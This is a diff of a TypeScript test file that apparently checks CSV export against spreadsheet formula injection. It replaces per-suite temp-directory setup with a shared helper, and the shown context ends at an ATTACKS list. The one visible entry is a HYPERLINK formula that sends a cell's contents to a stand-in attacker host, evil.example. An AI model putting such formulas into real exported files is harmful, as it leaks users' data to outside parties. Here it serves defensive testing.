@@ -6,19 +6,10 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { cliStore, type CliStore } from './cli-store.ts';
-import { tempDir } from './helpers.ts';
+import { describe, expect, it } from 'vitest';
+import { cliStoreForSuite } from './cli-store.ts';
 
-const tmp = tempDir();
-let cli: CliStore;
-beforeAll(async () => {
-  cli = await cliStore(tmp.dir);
-});
-afterAll(async () => {
-  await cli.dispose();
-  tmp.dispose();
-});
+const { tmp, cli } = cliStoreForSuite();
 
 const ATTACKS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")',
